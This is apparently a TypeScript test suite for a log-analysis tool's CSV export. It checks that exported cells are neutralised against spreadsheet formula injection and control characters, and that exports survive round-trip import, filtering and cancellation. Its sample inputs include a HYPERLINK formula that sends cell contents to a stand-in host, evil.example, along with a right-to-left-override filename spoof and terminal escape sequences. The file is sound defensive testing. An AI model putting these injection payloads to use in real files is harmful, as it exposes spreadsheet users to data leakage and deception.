import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_HEADER } from '../../shared/export/exportColumns.js';
import { tempWorkspace } from '../../test/tempCase.js';
import { rebuild } from '../analysis/rebuild.js';
import { importSource } from '../ingest/importSource.js';
import type { CaseDb } from '../store/openCase.js';
import { factsWhere } from '../query/filterSql.js';
import { countExportRows, exportCsv, exportSql } from './exportCsv.js';
import { REQUEST_COLUMNS } from '../ingest/encodedBatch.js';

/** Every requests column a source can fill (all but the line number), in the order inserted. */
const COLS = REQUEST_COLUMNS.filter(
  (c): c is Exclude<(typeof REQUEST_COLUMNS)[number], 'line_no'> => c !== 'line_no',
);
type Col = (typeof COLS)[number];
type Req = Partial<Record<Col, string | number | null>>;

/** Text a spreadsheet would evaluate, and text that breaks naive CSV writers. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '\tleading tab',
  '\rleading CR',
  'say "hi", twice',
  'two\nlines',
  'crlf\r\ninside',
  "'=already quoted",
  'ünïcödé ✓ 日本語',
  // Terminal escapes, a NUL, a right-to-left override, a C1 CSI; and nginx's literal \x1B.
  '\x1b[31mred\x1b[0m\x07 nul\x00byte',
  'invoice\u202efdp.exe \x9b2J \x7f',
  'nginx wrote \\x1B, then a real \\\x1b',
];

/** The cell text of HOSTILE's escaped entries, as the export writes them (unquoted). */
const ESCAPED: Record<string, string> = {
  '\x1b[31mred\x1b[0m\x07 nul\x00byte': '\\x1B[31mred\\x1B[0m\\x07 nul\\x00byte',
  'invoice\u202efdp.exe \x9b2J \x7f': 'invoice\\u202Efdp.exe \\x9B2J \\x7F',
  'nginx wrote \\x1B, then a real \\\x1b': 'nginx wrote \\\\x1B, then a real \\\\\\x1B',
};
/** What a terminal, a C tool or a text editor would act on: controls but tab/CR/LF, bidi. */
// eslint-disable-next-line no-control-regex -- the raw characters are what must not be there
const ACTIVE = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

const T0 = Date.UTC(2026, 2, 12, 9, 21, 40) * 1000;

function requests(): Req[] {
  const rows: Req[] = HOSTILE.map((h, i) => ({
    ts_us: T0 + i * 1_000_123 + (i === 3 ? 456 : 0),
    ip: `10.0.0.${1 + (i % 3)}`,
    xff: i === 0 ? '=1+1, 10.9.9.9' : null,
    method: i === 1 ? '@SUM(A1)' : 'GET',
    scheme: 'https',
    host: 'api.example.com',
    // Stored paths never hold ? or # (every parser splits there), and the importer splits a
    // path column at them as it would a URL.
    path: i === 2 ? h : `/p/${i}/${h.replace(/[?#]/g, '_')}`,
    query: h,
    protocol: 'HTTP/1.1',
    status: 200 + i,
    latency_ms: 12.5 + i,
    req_bytes: i,
    resp_bytes: 100 * i,
    user_agent: h,
    referer: h,
    request_id: `-req-${i}`,
    cookies: `sid=${i}; x=${h}`,
    headers: JSON.stringify({ 'x-test': h }),
    req_body: h,
    resp_headers: JSON.stringify({ 'content-type': 'text/plain' }),
    resp_body: h,
    src_session: `@sess-${i % 2}`,
    src_user: i % 2 === 0 ? '+alice' : 'bob',
    src_role: '-admin',
    src_label: i === 4 ? '=SQLi' : null,
    extra: JSON.stringify({ note: h }),
  }));
  return rows;
}

function seed(db: CaseDb, rows: Req[]): void {
  const src = db
    .prepare(
      `INSERT INTO sources (path_given, file_name, size_bytes, sha256, format, parser_options,
        tz_assumption, imported_at, status)
       VALUES ('=evil.log', '=evil.log', 0, ?, 'seed', '{}', 'UTC', '2026-01-01T00:00:00Z', 'complete')`,
    )
    .run('0'.repeat(64)).lastInsertRowid;
  const ins = db.prepare(
    `INSERT INTO requests (source_id, line_no, ${COLS.join(', ')})
     VALUES (?, ?, ${COLS.map(() => '?').join(', ')})`,
  );
  db.transaction(() => {
    rows.forEach((r, i) => ins.run(src, i + 1, ...COLS.map((c) => r[c] ?? null)));
  })();
  rebuild(db);
}

function parseCsv(file: string): { header: string[]; rows: string[][]; bom: boolean } {
  const text = readFileSync(file, 'utf8');
  const bom = text.startsWith('\uFEFF');
  const r = Papa.parse<string[]>(bom ? text.slice(1) : text, {
    delimiter: ',',
    newline: '\r\n',
    skipEmptyLines: true,
  });
  expect(r.errors).toEqual([]);
  const [header, ...rows] = r.data;
  return { header: header!, rows, bom };
}

let ws: ReturnType<typeof tempWorkspace>;
let db: CaseDb;
const original = requests();

beforeAll(() => {
  ws = tempWorkspace('ss-export-');
  db = ws.openCase();
  seed(db, original);
});
afterAll(() => ws.cleanup());

describe('exportCsv', () => {
  it('writes every request, header first, and neutralizes every cell a spreadsheet would run', async () => {
    const out = path.join(ws.dir, 'all.csv');
    const res = await exportCsv(db, out, { pageSize: 4 });
    expect(res.rows).toBe(original.length);
    expect(res.bytes).toBe(readFileSync(out).length);
    expect(readFileSync(out, 'utf8')).not.toMatch(ACTIVE);
    const { header, rows, bom } = parseCsv(out);
    expect(bom).toBe(false);
    expect(header).toEqual(EXPORT_HEADER);
    expect(rows).toHaveLength(original.length);
    const col = (name: string): number => header.indexOf(name);
    rows.forEach((cells, i) => {
      expect(cells).toHaveLength(header.length);
      for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
      const h = HOSTILE[i]!;
      for (const name of ['query', 'user_agent', 'referer', 'req_body', 'resp_body']) {
        const cell = cells[col(name)]!;
        const written = ESCAPED[h] ?? h;
        expect(cell).toBe(/^'*[=+\-@\t\r]/.test(h) ? `'${written}` : written);
      }
      expect(cells[col('source')]).toBe("'=evil.log");
      expect(cells[col('request_id')]).toBe(`'-req-${i}`);
      expect(cells[col('user')]).toBe(i % 2 === 0 ? "'+alice" : 'bob');
      expect(cells[col('analysis_session')]).toMatch(/^s[0-9a-f]{16}$/);
    });
    expect(rows[0]![col('time')]).toBe('2026-03-12T09:21:40.000+00:00');
    expect(rows[3]![col('time')]).toBe('2026-03-12T09:21:43.000825+00:00');
    expect(rows[0]![col('xff')]).toBe("'=1+1, 10.9.9.9");
    expect(rows[1]![col('method')]).toBe("'@SUM(A1)");
  });

  it('re-imports through the CSV importer with every field of every request intact', async () => {
    const out = path.join(ws.dir, 'roundtrip.csv');
    await exportCsv(db, out, { bom: true });
    const db2 = ws.openCase('reimport.sscase');
    // Sniffed, not forced: the export must be recognised as CSV and as our own.
    const imported = await importSource(db2, out, {}, { workerFile: false });
    expect(imported.format).toBe('csv');
    // The importer keeps the header row as its only reject, so lines still add up.
    expect(db2.prepare('SELECT line_no, reason FROM rejects').all()).toEqual([
      { line_no: 1, reason: 'header row' },
    ]);
    expect(imported.accepted).toBe(original.length);
    const back = db2.prepare('SELECT * FROM requests ORDER BY ts_us, line_no').all() as Record<
      string,
      unknown
    >[];
    const before = db.prepare('SELECT * FROM requests ORDER BY ts_us, id').all() as Record<
      string,
      unknown
    >[];
    const found = db
      .prepare(
        `SELECT r.id, ss.sid FROM request_facts f JOIN requests r ON r.id = f.request_id
         JOIN sessions ss ON ss.id = f.session_id`,
      )
      .all() as { id: number; sid: string }[];
    const sidOf = new Map(found.map((f) => [f.id, f.sid]));
    back.forEach((got, i) => {
      const want = before[i]!;
      const extra = JSON.parse(String(got.extra)) as Record<string, unknown>;
      // What the export adds (id, source, line, the analysis) is kept apart from the source's extra.
      const { _export: added, ...ownExtra } = extra;
      expect(added).toMatchObject({
        id: want.id,
        line: want.line_no,
        source: '=evil.log',
        analysis_session: sidOf.get(want.id as number),
      });
      for (const c of COLS) {
        const g = c === 'extra' ? JSON.stringify(ownExtra) : got[c];
        expect(g, `${c} of request ${i}`).toEqual(want[c]);
      }
    });
  });

  it('a foreign CSV with the same cells keeps its leading quotes', async () => {
    // One column renamed: no longer our export, so nothing is undone.
    const header = EXPORT_HEADER.map((h) => (h === 'label' ? 'tag' : h)).join(',');
    const ours = readFileSync(path.join(ws.dir, 'all.csv'), 'utf8').split('\r\n');
    const foreign = ws.file('foreign.csv', [header, ...ours.slice(1)].join('\r\n'));
    const db3 = ws.openCase('foreign.sscase');
    await importSource(db3, foreign, { format: 'csv' }, { workerFile: false });
    const uas = (
      db3.prepare('SELECT user_agent FROM requests ORDER BY line_no').all() as {
        user_agent: string;
      }[]
    ).map((r) => r.user_agent);
    expect(uas).toContain("'@SUM(A1:A9)");
  });

  it('exports one session, or the filtered requests, and writes a BOM when asked', async () => {
    const sid = (
      db
        .prepare(`SELECT s.sid FROM sessions s ORDER BY s.request_count DESC, s.sid LIMIT 1`)
        .get() as { sid: string }
    ).sid;
    const inSession = (
      db
        .prepare(
          `SELECT count(*) AS n FROM request_facts f JOIN sessions s ON s.id = f.session_id
           WHERE s.sid = ?`,
        )
        .get(sid) as { n: number }
    ).n;
    const out = path.join(ws.dir, 'session.csv');
    const res = await exportCsv(db, out, { sessionId: sid, bom: true, pageSize: 1 });
    expect(res.rows).toBe(inSession);
    const parsed = parseCsv(out);
    expect(parsed.bom).toBe(true);
    const sidCol = parsed.header.indexOf('analysis_session');
    expect(parsed.rows.map((r) => r[sidCol])).toEqual(Array(inSession).fill(sid));
    const times = parsed.rows.map((r) => r[parsed.header.indexOf('time')]!);
    expect([...times].sort()).toEqual(times);
    // A time range inside the session: the session's facts read from its start on.
    const ts = (
      db
        .prepare(
          `SELECT f.ts_us FROM request_facts f JOIN sessions s ON s.id = f.session_id
           WHERE s.sid = ? ORDER BY f.ts_us`,
        )
        .pluck()
        .all(sid) as number[]
    ).slice(1, -1);
    const range = { from: ts[0]!, to: ts[ts.length - 1]! };
    const inRange = ts.filter((t) => t >= range.from && t < range.to).length;
    expect(inRange).toBeGreaterThan(0);
    const ranged = await exportCsv(db, path.join(ws.dir, 'ranged.csv'), {
      sessionId: sid,
      filters: range,
      pageSize: 1,
    });
    expect(ranged.rows).toBe(inRange);
    expect(countExportRows(db, { sessionId: sid, filters: range })).toBe(inRange);

    const filtered = path.join(ws.dir, 'filtered.csv');
    const f = await exportCsv(db, filtered, { filters: { ips: ['10.0.0.2'], statuses: ['2xx'] } });
    const ipCol = parsed.header.indexOf('ip');
    const fr = parseCsv(filtered).rows;
    expect(f.rows).toBe(original.filter((r) => r.ip === '10.0.0.2').length);
    expect(fr.every((r) => r[ipCol] === '10.0.0.2')).toBe(true);

    await expect(
      exportCsv(db, path.join(ws.dir, 'x.csv'), { sessionId: 's0000000000000000' }),
    ).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  it('lists the distinct attack types of each request, sorted, and nothing for the others', async () => {
    const out = path.join(ws.dir, 'attacks.csv');
    await exportCsv(db, out, { pageSize: 3 });
    const { header, rows } = parseCsv(out);
    const want = db
      .prepare(
        `SELECT r.id, (SELECT group_concat(type, ';') FROM (SELECT DISTINCT type FROM detections d
           WHERE d.request_id = r.id ORDER BY type)) AS attacks FROM requests r`,
      )
      .all() as { id: number; attacks: string | null }[];
    const byId = new Map(want.map((w) => [String(w.id), w.attacks ?? '']));
    // The seed's SQLi, XSS and traversal probes are detected: the column is not trivially empty.
    expect([...byId.values()].some((a) => a !== '')).toBe(true);
    for (const r of rows) {
      expect(r[header.indexOf('attacks')], `request ${r[0]}`).toBe(byId.get(r[0]!));
    }
  });

  it('reads pages by index, never scanning a table or sorting the whole case', () => {
    const plan = (sql: string, params: (string | number)[]): string =>
      (db.prepare(`EXPLAIN QUERY PLAN ${sql}`).all(...params) as { detail: string }[])
        .map((r) => r.detail)
        .join(' | ');
    const none = factsWhere(db, {});
    const whole = plan(exportSql(db, none.sql, false, true), [0, 0, 10]);
    // The rest of the cursor's instant: one seek on time and id (not every row of that time).
    expect(whole).toContain('SEARCH r USING INDEX requests_ts (ts_us=? AND rowid>?)');
    // The attack types of one request are a tiny subquery; scanning its result is fine.
    expect(whole).not.toMatch(/\bSCAN (?!\(subquery)|TEMP B-TREE FOR ORDER BY/);
    const later = plan(exportSql(db, none.sql, false, true, 'later'), [0, 10]);
    expect(later).toContain('SEARCH r USING INDEX requests_ts (ts_us>?)');
    expect(later).not.toMatch(/\bSCAN (?!\(subquery)|TEMP B-TREE FOR ORDER BY/);
    const session = plan(exportSql(db, none.sql, true, true), [1, 1, 0, 1, 0, 0, 10]);
    expect(session).not.toMatch(/\bSCAN (?!\(subquery)|TEMP B-TREE FOR ORDER BY/);
  });

  it('a cancelled export leaves no file, and an existing file as it was', async () => {
    const out = path.join(ws.dir, 'cancelled.csv');
    writeFileSync(out, 'previous');
    const ac = new AbortController();
    await expect(
      exportCsv(db, out, {
        pageSize: 2,
        signal: ac.signal,
        onProgress: (p) => {
          if (p.rows >= 4) ac.abort();
        },
      }),
    ).rejects.toMatchObject({ code: 'CANCELLED' });
    expect(readFileSync(out, 'utf8')).toBe('previous');
    expect(readdirSync(ws.dir).filter((n) => n.endsWith('.part'))).toEqual([]);
    await expect(exportCsv(db, path.join(ws.dir, 'no-such-dir', 'x.csv'))).rejects.toMatchObject({
      code: 'BAD_INPUT',
    });
  });
});
